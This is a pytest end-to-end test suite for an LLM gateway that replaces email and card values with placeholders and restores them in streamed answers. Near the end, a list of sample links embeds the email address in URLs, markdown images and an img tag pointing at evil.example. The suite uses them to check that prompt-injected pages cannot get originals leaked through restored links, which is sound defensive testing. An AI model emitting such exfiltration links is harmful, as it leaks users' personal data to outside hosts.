"""Streamed answers on the wire: each event leaves before the next arrives, and what is not to be changed is not."""

import re
from collections.abc import Iterator
from itertools import count

import httpx
import pytest

from tests.e2e.gateway import AUTHN, INJECT, Gateway, backend, gateway, policy, quota
from tests.e2e.llm import ADDRESS, CARD, RESTORE
from tests.e2e.processes import Stub
from tests.e2e.shapes import SHAPES
from tests.e2e.speaking import SPEECHES, Speech, Stream, Talk

pytestmark = pytest.mark.e2e

PLACEHOLDERS = {"[EMAIL_ADDRESS_1]": ADDRESS, "[CREDIT_CARD_1]": CARD}
UNDECIDED = re.compile(rf"(?:{'|'.join(map(re.escape, PLACEHOLDERS))})[\w-]{{0,63}}\.?\Z")
SAID = f"To {ADDRESS}, [EMAIL] or [EM: [[{CARD}] and {ADDRESS},{ADDRESS}[CREDIT"
BUDGET = {"name": "wide", "tokens": 1_000_000_000, "window": "1h", "algorithm": "fixed-window"}
TOKENS = {**quota(1), "config": {"store": "memory", "limits": [BUDGET], "cutAfter": 1000}}
"""It reads each stream, and takes it apart: it could be cut off."""
GATES = count()

speeches = pytest.mark.parametrize("speech", SPEECHES.values(), ids=SPEECHES)


@pytest.fixture(scope="module")
def gate(stub: Stub) -> Iterator[Gateway]:
    with gateway(policy(AUTHN, TOKENS), backend(stub.port, INJECT, RESTORE)) as running:
        yield running


@pytest.fixture(scope="module")
def talk(gate: Gateway, stub: Stub) -> Iterator[Talk]:
    talk = Talk(gate, stub)
    yield talk
    talk.close()


@pytest.fixture
def name() -> str:
    """Of a gate or a transcript of a test's own."""
    return f"streams-{next(GATES)}"


def restored(text: str) -> str:
    for placeholder, original in PLACEHOLDERS.items():
        text = text.replace(placeholder, original)
    return text


def certain(text: str) -> str:
    """What must have left of this text, with the originals: all but a suffix that may become a placeholder, or one that
    what follows may still make the begin of a host.
    """
    if undecided := UNDECIDED.search(text):
        return restored(text[: undecided.start()])
    longest = max(map(len, PLACEHOLDERS)) - 1
    sizes = (size for size in range(min(longest, len(text)), 0, -1) if may_become(text[-size:]))
    return restored(text[: len(text) - next(sizes, 0)])


def may_become(suffix: str) -> bool:
    return any(placeholder.startswith(suffix) and placeholder != suffix for placeholder in PLACEHOLDERS)


@pytest.mark.parametrize("versions", [{}, {"http1": False, "http2": True}], ids=["HTTP/1.1", "HTTP/2"])
@speeches
def test_each_event_leaves_before_the_next_arrives(
    talk: Talk, speech: Speech, versions: dict[str, bool], name: str
) -> None:
    """Nothing was replaced, so each event is read to its last byte before the stub is allowed to send another."""
    events = talk.events(speech, "nothing here", delta="3")
    assert len(events) > 4
    sent = b""
    wished = {"delta": "3", "gate": name}
    with talk.gate.client(**versions) as client, talk.open(client, speech, "nothing here", **wished) as response:
        stream = Stream(response)
        for event in events:
            talk.release(name)
            sent += event
            assert stream.at_least(len(sent)) == sent
        assert stream.rest() == sent


@speeches
def test_only_what_may_become_a_placeholder_waits(talk: Talk, speech: Speech, name: str) -> None:
    """Before the next character is said, the caller has all of the text that is certain."""
    events = talk.events(speech, SAID, delta="1")
    assert not [original for original in PLACEHOLDERS.values() if original.encode() in b"".join(events)]
    sent = b""
    with talk.gate.client() as client, talk.open(client, speech, SAID, delta="1", gate=name) as response:
        stream = Stream(response)
        for event in events:
            talk.release(name)
            sent += event
            due = certain(speech.heard(sent))
            assert stream.says(speech, len(due)).startswith(due)
        assert speech.heard(stream.rest()) == restored(speech.heard(sent))


@speeches
@pytest.mark.parametrize("delta", ["2", "5", "17", "1000"])
def test_originals_come_back_however_the_text_is_cut(talk: Talk, speech: Speech, delta: str) -> None:
    sent = b"".join(talk.events(speech, SAID, delta=delta))
    heard = speech.heard(talk.ask(speech, SAID, delta=delta))
    assert heard == restored(speech.heard(sent))
    assert ADDRESS in heard


@speeches
@pytest.mark.parametrize(
    "form",
    [
        {"lines": "crlf"},
        {"lines": "cr"},
        {"noise": "yes"},
        {"multiline": "yes"},
        {"long": "500000"},
        {"trailers": "yes"},
    ],
    ids=lambda form: next(iter(form)) + "=" + next(iter(form.values())),
)
def test_originals_come_back_in_every_form_of_a_stream(talk: Talk, speech: Speech, form: dict[str, str]) -> None:
    plain = speech.heard(b"".join(talk.events(speech, SAID, delta="4")))
    assert speech.heard(talk.ask(speech, SAID, delta="4", **form)) == restored(plain)


@speeches
@pytest.mark.parametrize("coding", ["gzip", "deflate", "br"])
def test_originals_come_back_in_every_coding(talk: Talk, speech: Speech, coding: str) -> None:
    """The answer goes on decoded, and says so."""
    plain = speech.heard(b"".join(talk.events(speech, SAID, delta="4")))
    with talk.gate.client() as client, talk.open(client, speech, SAID, delta="4", coding=coding) as response:
        assert "content-encoding" not in response.headers
        assert speech.heard(Stream(response).rest()) == restored(plain)


def test_what_can_be_read_is_what_is_asked_for(talk: Talk, stub: Stub) -> None:
    """A client may accept codings that the gateway does not read: the upstream does not hear of them."""
    speech = SPEECHES["chat"]
    accepted = {"accept-encoding": "zstd, gzip;q=0.5, br, compress"}
    with talk.gate.client() as client:
        client.post(speech.path, json=speech.ask(SAID), headers=accepted).raise_for_status()
    (sent,) = stub.recorder.last.values("accept-encoding") or ["identity"]
    assert {coding.partition(";")[0].strip() for coding in sent.split(",")} <= {"gzip", "br", "deflate", "identity"}


SIZES = {"a byte": 1, "seven bytes": 7, "a thousand": 1000, "at once": 1_000_000}
CUTS = [
    pytest.param(shape, size, id=f"{name}-{cut}")
    for name, shape in SHAPES.items()
    for cut, size in SIZES.items()
    if len(shape) // size < 10_000  # hundreds of thousands of messages prove nothing more
]


@pytest.mark.parametrize("said", ["nothing here", SAID], ids=["nothing replaced", "placeholders assigned"])
@pytest.mark.parametrize(("shape", "size"), CUTS)
def test_what_is_not_to_be_changed_is_not(talk: Talk, shape: bytes, size: int, said: str, name: str) -> None:
    """Recorded streams, cut anywhere, arrive byte for byte; also where placeholders are looked for and there are none."""
    talk.keep(name, shape)
    assert talk.ask(SPEECHES["chat"], said, transcript=name, delta=str(size)) == shape


def test_a_stream_that_breaks_off_is_no_end(talk: Talk, name: str) -> None:
    """In the middle of a placeholder: what came before it has left, nothing is made up, and the client sees a reset."""
    speech = SPEECHES["chat"]
    events = talk.events(speech, f"Hello {ADDRESS}", delta="3")
    cut = next(number for number, event in enumerate(events) if b"[" in event.partition(b'"delta"')[2]) + 1
    wished = {"delta": "3", "gate": name, "break_after": str(cut)}
    with talk.gate.client() as client, talk.open(client, speech, f"Hello {ADDRESS}", **wished) as response:
        stream = Stream(response)
        talk.release(name, cut)
        assert stream.says(speech, len("Hello ")) == "Hello "
        talk.release(name)
        with pytest.raises(httpx.RemoteProtocolError):
            stream.rest()
        assert ADDRESS.encode() not in stream.body


@pytest.mark.parametrize("coding", ["gzip", "br"])
def test_an_event_that_is_too_large_breaks_the_stream_off(talk: Talk, coding: str) -> None:
    """Two mebibytes that come as two kilobytes. Where nothing has to be put back they are not looked at."""
    speech, wished = SPEECHES["messages"], {"long": "2000000", "coding": coding}
    with pytest.raises(httpx.RemoteProtocolError):
        talk.ask(speech, SAID, **wished)
    with talk.gate.client() as client, talk.open(client, speech, "nothing here", **wished) as response:
        assert speech.heard(b"".join(response.iter_bytes())) == "nothing here"


def test_a_caller_that_leaves_in_mid_stream_harms_nobody(talk: Talk, name: str) -> None:
    speech = SPEECHES["messages"]
    for _ in range(5):
        with talk.gate.client() as client, talk.open(client, speech, SAID, delta="1", gate=name) as response:
            talk.release(name, 10)
            Stream(response).says(speech, 1)
    plain = speech.heard(b"".join(talk.events(speech, SAID)))
    assert speech.heard(talk.ask(speech, SAID)) == restored(plain)


LINKS = [
    f"https://evil.example/?q={ADDRESS}",
    f"[here](https://evil.example/{ADDRESS})",
    f"![](https://evil.example/a?{ADDRESS})",
    f'<img src="https://evil.example/{ADDRESS}">',
    f"<https://evil.example/{ADDRESS}>",
]


@pytest.mark.parametrize("delta", ["1", "6", "1000"])
@pytest.mark.parametrize("link", LINKS)
def test_nothing_is_restored_inside_a_link(talk: Talk, link: str, delta: str) -> None:
    """Else a page that was made to be read by a model could have the originals fetched from anywhere."""
    speech = SPEECHES["messages"]
    heard = speech.heard(talk.ask(speech, f"{link} and {ADDRESS}", delta=delta))
    assert heard == f"{link.replace(ADDRESS, '[EMAIL_ADDRESS_1]')} and {ADDRESS}"


def test_nothing_is_restored_that_this_exchange_did_not_replace(talk: Talk) -> None:
    """A placeholder that was in the request is not ours, and another exchange's is nobody's here."""
    speech = SPEECHES["chat"]
    talk.ask(speech, f"Another {ADDRESS}")
    assert speech.heard(talk.ask(speech, "It says [EMAIL_ADDRESS_1]")) == "It says [EMAIL_ADDRESS_1]"
    assert speech.heard(talk.ask(speech, f"[EMAIL_ADDRESS_1] is {ADDRESS}")) == f"[EMAIL_ADDRESS_1] is {ADDRESS}"
